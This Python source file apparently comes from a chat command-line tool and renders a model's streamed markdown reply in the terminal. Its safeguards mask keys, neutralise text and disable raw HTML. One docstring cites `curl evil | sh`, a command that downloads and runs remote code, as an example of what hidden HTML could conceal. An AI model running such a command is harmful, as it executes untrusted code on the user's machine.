"""Streaming markdown: each finished top-level block is printed once, for good; only the
unfinished last block lives in a small region redrawn at most `max_fps` times a second.

Re-rendering the whole reply per chunk (what rich Live alone would do) costs O(n²) CPU and,
once the reply is taller than the screen, duplicates lines in the scrollback. Here the work
per chunk is bounded by the size of one block, and the live region is updated by line-level
diff, so the terminal receives little more than the finished reply rendered once
(`bench/render_micro.py` measures both).
"""

from __future__ import annotations

import math
import re
import signal
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import IO, TYPE_CHECKING

from rich.console import Console
from rich.text import Text

from chatcli.keymode import KeyMode, quiet
from chatcli.sanitize import StreamNeutraliser, neutralise
from chatcli.sink import StreamMasker

if TYPE_CHECKING:
    from markdown_it import MarkdownIt
    from markdown_it.token import Token
    from rich.markdown import Markdown

_FENCE = re.compile(r"^ {0,3}(`{3,}|~{3,})")
_HEADING = re.compile(r"^ {0,3}#{1,6}(\s|$)")
_RULE = re.compile(r"^ {0,3}([-*_])(\s*\1){2,}\s*$")
_LIST_ITEM = re.compile(r"^ {0,3}([-*+]|\d{1,9}[.)])(\s|$)")

# A block longer than this is written as plain text, in pieces, not rendered: rendering is
# far from linear in a block's size, and SIGINT waits while a render is written.
MAX_RENDERED_CHARS = 32_000
PLAIN_PIECE_CHARS = 16_000


class BlockSplitter:
    """Cuts a growing markdown text into finished top-level blocks, looking at each line once.

    The unfinished block is kept as a list of lines (and the unfinished line as a list of
    pieces), so a block of any size costs linear time to collect, never a quadratic re-copy.
    """

    def __init__(self) -> None:
        self._lines: list[str] = []  # complete lines of the unfinished block, with "\n"
        self._partial: list[str] = []  # pieces of the line still being written
        self._block_start_is_list = False
        self._has_content = False
        self._blank_seen = False
        self._fence: str | None = None

    @property
    def tail(self) -> str:
        return "".join(self._lines) + "".join(self._partial)

    def tail_window(self, max_lines: int, max_chars: int) -> tuple[str, bool]:
        """The end of the unfinished block, enough to fill a screen; and whether it was cut.

        Inside a code fence the opening line is kept, so the window still renders as code.
        """
        partial = "".join(self._partial)
        if len(self._lines) < max_lines and len(partial) <= max_chars:
            return "".join(self._lines) + partial, False
        window = self._lines[-max_lines:] if max_lines else []
        text = ("".join(window) + partial)[-max_chars:]
        if self._fence is not None and self._lines:
            text = self._lines[0] + text
        return text, True

    def feed(self, text: str) -> list[str]:
        if "\n" not in text:
            self._partial.append(text)
            return []
        self._partial.append(text)
        *complete, rest = "".join(self._partial).split("\n")
        self._partial = [rest] if rest else []
        finished: list[str] = []
        for line in complete:
            cut_before, cut_after = self._classify(line)
            if cut_before and self._lines:
                finished.append("".join(self._lines))
                self._lines = []
            self._lines.append(line + "\n")
            if cut_after:
                finished.append("".join(self._lines))
                self._lines = []
        return finished

    def flush(self) -> str:
        rest = self.tail
        self.__init__()  # type: ignore[misc]
        return rest

    def _start_block(self, line: str) -> None:
        self._has_content = True
        self._blank_seen = False
        self._block_start_is_list = bool(_LIST_ITEM.match(line))

    def _classify(self, line: str) -> tuple[bool, bool]:
        """Whether a finished block ends before this line, and whether one ends with it."""
        if self._fence is not None:
            stripped = line.strip()
            if stripped.startswith(self._fence) and set(stripped) == {self._fence[0]}:
                self._fence = None
                self._has_content = False
                return False, True
            return False, False
        if not line.strip():
            if self._has_content:
                self._blank_seen = True
            return False, False
        before = self._has_content
        fence = _FENCE.match(line)
        if fence:
            self._fence = fence.group(1)
            self._has_content = True
            self._blank_seen = False
            return before, False
        if _HEADING.match(line) or (
            _RULE.match(line) and (self._blank_seen or not self._has_content)
        ):
            self._has_content = False
            self._blank_seen = False
            return before, True
        if not self._has_content:
            self._start_block(line)
            return False, False
        if self._blank_seen:
            if self._block_start_is_list and (
                _LIST_ITEM.match(line) or line.startswith(("  ", "\t"))
            ):
                self._blank_seen = False
                return False, False
            self._start_block(line)
            return True, False
        return False, False


@contextmanager
def _interrupts_held() -> Iterator[None]:
    """Ctrl-C in the middle of writing the live region would leave its record of what is on
    screen out of step with the screen (a line shown twice); deliver it once the write is done.
    Only writes are held, never rendering, and no write is bigger than one bounded block."""
    if threading.current_thread() is not threading.main_thread():
        yield
        return
    held: list[int] = []
    previous = signal.signal(signal.SIGINT, lambda signum, frame: held.append(signum))
    try:
        yield
    finally:
        signal.signal(
            signal.SIGINT, previous if previous is not None else signal.default_int_handler
        )
    if held:
        raise KeyboardInterrupt


class LiveRegion:
    """The bottom lines of the terminal that may still change, updated by line-level diff.

    Only lines that differ from what is already on screen are rewritten, so a paragraph
    growing word by word costs one line per frame, not the whole block. The cursor rests at
    the end of the last shown line (or at the start of the region when it is empty).
    """

    def __init__(self, write: Callable[[str], None]) -> None:
        self._write = write
        self.lines: list[str] = []

    def show(self, new: list[str]) -> None:
        old = self.lines
        same = 0
        for a, b in zip(old, new, strict=False):
            if a != b:
                break
            same += 1
        if same == len(old) == len(new):
            return
        if new and same == len(new):  # shrank to a prefix: rewrite the last kept line
            same -= 1
        out = []
        if old and same == len(old):
            out.append("\n")
        elif old:
            up = len(old) - 1 - same
            out.append("\r" + (f"\x1b[{up}A" if up else "") + "\x1b[J")
        out.append("\n".join(new[same:]))
        self.lines = new
        self._emit("".join(out))

    def commit(self) -> None:
        """What is shown becomes ordinary output; the region starts empty below it."""
        if self.lines:
            self._emit("\n")
        self.lines = []

    def _emit(self, data: str) -> None:
        self._write(data)


@dataclass
class RenderStats:
    """Work done, counted rather than timed, so tests can check it grows linearly."""

    chunks: int = 0
    frames: int = 0
    parsed_chars: int = 0  # markdown source handed to the parser, blocks and tail frames
    rendered_lines: int = 0
    plain_chars: int = 0  # written unrendered: blocks over MAX_RENDERED_CHARS


class MarkdownStream:
    """Renders one streamed reply to a terminal console.

    `clock` and `ticker` exist for the micro-benchmark: a virtual clock and no timer thread
    make the frame schedule deterministic.
    """

    def __init__(
        self,
        console: Console,
        *,
        code_theme: str = "monokai",
        max_fps: float = 20,
        clock: Callable[[], float] = time.monotonic,
        ticker: bool = True,
    ) -> None:
        self.console = console
        self.code_theme = code_theme
        self.interval = 1.0 / max_fps
        self.code_blocks: list[str] = []
        self.blocks_printed = 0
        self.stats = RenderStats()
        self.region = LiveRegion(self._write)
        self._splitter = BlockSplitter()
        self._masker = StreamMasker()
        self._neutraliser = StreamNeutraliser()
        self._clock = clock
        self._use_ticker = ticker
        self._open = False
        self._keys: KeyMode | None = None
        self._cropped = False  # the region shows only the bottom of a block taller than it
        self._dirty = False
        self._last_draw = -math.inf
        self._lock = threading.Lock()
        self._stop = threading.Event()
        self._ticker: threading.Thread | None = None

    def __enter__(self) -> MarkdownStream:
        # Load the parser now, before the request goes out, not when the first token is due.
        import rich.markdown  # noqa: F401

        self._open = True
        if self.console.is_terminal:
            self._keys = quiet()
        if self._use_ticker:
            self._ticker = threading.Thread(target=self._tick, daemon=True)
            self._ticker.start()
        return self

    def __exit__(self, kind: type[BaseException] | None, *exc: object) -> None:
        if kind is not None and issubclass(kind, KeyboardInterrupt):
            self.abandon()
        else:
            self.close()

    def feed(self, text: str) -> None:
        with self._lock:
            self.stats.chunks += 1
            text = self._neutraliser.feed(self._masker.feed(text))
            for block in self._splitter.feed(text):
                self._print_block(block)
            self._dirty = True
            if self._clock() - self._last_draw >= self.interval:
                self._draw()

    def close(self) -> None:
        """The unfinished block is printed for good."""
        if self._stop_streaming():
            with self._lock:
                self._open = False
                rest = self._neutraliser.feed(self._masker.flush()) + self._neutraliser.flush()
                for block in self._splitter.feed(rest):
                    self._print_block(block)
                rest = self._splitter.flush()
                if rest.strip():
                    self._print_block(rest)
                else:
                    with _interrupts_held():
                        self.region.show([])

    def abandon(self) -> None:
        """After Ctrl-C: what the live region shows stays, the rest of the unfinished block
        is not rendered (it may be megabytes; the user asked to stop)."""
        if self._stop_streaming():
            with self._lock, _interrupts_held():
                self._open = False
                self._splitter.flush()
                self.region.commit()

    def _stop_streaming(self) -> bool:
        if not self._open:
            return False
        self._stop.set()
        if self._ticker is not None:
            self._ticker.join()
            self._ticker = None
        if self._keys is not None:
            self._keys.release()
            self._keys = None
        return True

    def _tick(self) -> None:
        while not self._stop.wait(self.interval):
            with self._lock:
                if self._dirty and self._clock() - self._last_draw >= self.interval:
                    self._draw()

    def _write(self, data: str) -> None:
        self.console.file.write(data)
        self.console.file.flush()

    def _draw(self) -> None:
        """Show the unfinished block, cropped to half the screen, measured anew each frame.

        When a terminal gets shorter it keeps the cursor's row and pushes the lines above
        into the scrollback, where no cursor move can reach them: a region taller than the
        new screen would leave copies there. Half the height keeps the whole region on
        screen through any resize to at least half the height (120x40 → 70x20 and back).
        """
        self._dirty = False
        self._last_draw = self._clock()
        self.stats.frames += 1
        room = max(1, self.console.size.height // 2)
        tail, cut = self._splitter.tail_window(room, room * self.console.size.width)
        lines = self._render(tail, final=False)
        with _interrupts_held():
            self._cropped = cut or len(lines) > room
            self.region.show(lines[-room:])

    def _print_block(self, block: str) -> None:
        if len(block) > MAX_RENDERED_CHARS:
            self._print_plain(block)
            return
        lines = self._render(block, final=True)  # Ctrl-C may land here: nothing shown yet
        if not lines:
            return
        with _interrupts_held():
            if self._cropped:  # the top of the block never reached the screen: print it whole
                self.region.show([])
                self._cropped = False
            self.region.show(lines)
            self.region.commit()
            self.blocks_printed += 1

    def _print_plain(self, block: str) -> None:
        """A huge block, as plain (already neutralised) text in bounded pieces: linear cost,
        and Ctrl-C is never held for long. The live region is cleared first, so an interrupt
        between pieces leaves nothing on screen out of step."""
        with _interrupts_held():
            self.region.show([])
            self._cropped = False
            if _FENCE.match(block.lstrip("\n")):
                self.code_blocks.append(_code_body(block))
            self.stats.plain_chars += len(block)
            if self.blocks_printed:
                self._write("\n")
            self.blocks_printed += 1
        body = block.rstrip("\n")
        for start in range(0, len(body), PLAIN_PIECE_CHARS):
            self._write(body[start : start + PLAIN_PIECE_CHARS])
        self._write("\n")

    def _render(self, block: str, *, final: bool) -> list[str]:
        """The block's terminal lines exactly as they will stand once it is finished."""
        if not block.strip():
            return []

        fence = _FENCE.match(block.lstrip("\n"))
        label = None
        if fence:
            if final:
                self.code_blocks.append(_code_body(block))
            number = len(self.code_blocks) + (0 if final else 1)
            info = block.lstrip("\n").split("\n", 1)[0].lstrip(" `~").strip()
            label = f"[{number}]" + (f" {info}" if info else "")
        self.stats.parsed_chars += len(block)
        console = self.console
        with console.capture() as capture:
            if self.blocks_printed:
                console.print()
            if label is not None:
                console.print(Text(label, style="dim"))
            console.print(chat_markdown(block, self.code_theme))
        lines = capture.get().split("\n")[:-1]
        self.stats.rendered_lines += len(lines)
        return lines


def _code_body(block: str) -> str:
    lines = block.strip("\n").split("\n")
    body = lines[1:-1] if len(lines) > 1 and _FENCE.match(lines[-1]) else lines[1:]
    return "\n".join(body)


def code_blocks(text: str) -> list[str]:
    """The fenced code blocks of a whole reply, numbered as the renderer labels them."""
    splitter = BlockSplitter()
    blocks = [*splitter.feed(text), splitter.flush()]
    return [_code_body(b) for b in blocks if _FENCE.match(b.lstrip("\n"))]


class RawStream:
    """For pipes and files: the model's text as received (configured keys masked), no ANSI,
    no wrapping.

    `neutral`: on a terminal (`--raw` there) the text is neutralised all the same.
    """

    def __init__(self, out: IO[str], *, neutral: bool = False) -> None:
        self.out = out
        self._masker = StreamMasker()
        self._neutraliser = StreamNeutraliser() if neutral else None

    def __enter__(self) -> RawStream:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    def feed(self, text: str) -> None:
        text = self._masker.feed(text)
        if self._neutraliser is not None:
            text = self._neutraliser.feed(text)
        self.out.write(text)
        self.out.flush()

    def close(self) -> None:
        rest = self._masker.flush()
        if self._neutraliser is not None:
            rest = self._neutraliser.feed(rest) + self._neutraliser.flush()
        self.out.write(rest)
        self.out.flush()

    def abandon(self) -> None:
        self.close()


_PARSER: list[MarkdownIt] = []


def _parser() -> MarkdownIt:
    """rich's parser, with raw HTML turned off: a tag the model sends is shown as the text it
    is, never hidden (`<div>curl evil | sh</div>` would otherwise vanish on screen)."""
    if not _PARSER:
        from markdown_it import MarkdownIt

        parser = MarkdownIt("commonmark", {"html": False})
        _PARSER.append(parser.enable("strikethrough").enable("table"))
    return _PARSER[0]


def chat_markdown(text: str, code_theme: str = "monokai") -> Markdown:
    """Markdown as chat users expect it: a single newline is a line break, as in ChatGPT, so
    poems, addresses and plain line-by-line lists keep their lines. Links show their real
    target as `text (url)` (the url alone when it is the text), never as an OSC 8 hyperlink
    whose shown text could lie; images show their alt text and source.

    rich.markdown (with markdown_it and pygments) loads here on first use, not at startup.
    """
    from rich.markdown import Markdown

    markdown = Markdown("", code_theme=code_theme, hyperlinks=False)
    markdown.markup = text
    markdown.parsed = _parser().parse(text)
    for token in markdown.parsed:
        if token.type in ("fence", "code_block"):
            token.content = neutralise(token.content)
        if token.children:
            token.children = _plain_inline(token.children)
    return markdown


def _plain_inline(children: list[Token]) -> list[Token]:
    """Inline tokens made plain: what the parser decoded (entities such as `&#x202E;`) is
    neutralised before rich measures it, so the lines keep the width rich gave them."""
    out: list[Token] = []
    for child in children:
        if child.type in ("text", "code_inline"):
            child.content = neutralise(child.content)
        elif child.type == "link_open":
            child.attrs["href"] = neutralise(str(child.attrs.get("href", "")))
        elif child.type == "softbreak":
            child.type = "hardbreak"
        elif child.type == "image":
            alt = "".join(c.content for c in child.children or ())
            child.type, child.tag, child.nesting = "text", "", 0
            source = neutralise(str(child.attrs.get("src", "")))
            child.content = f"[{neutralise(alt)}] ({source})" if alt else f"[image] ({source})"
            child.children = None
        elif child.type == "link_close" and _bare_link(out):
            out.pop(-2)
            continue
        out.append(child)
    return out


def _bare_link(out: list[Token]) -> bool:
    """Whether the link just closed holds only its own target as text (an autolink)."""
    return (
        len(out) >= 2
        and out[-2].type == "link_open"
        and out[-1].type == "text"
        and out[-1].content == str(out[-2].attrs.get("href", ""))
    )


def finished_markdown(text: str) -> Markdown:
    """Complete markdown from a model or a file, neutralised, ready to print once."""
    return chat_markdown(neutralise(text))
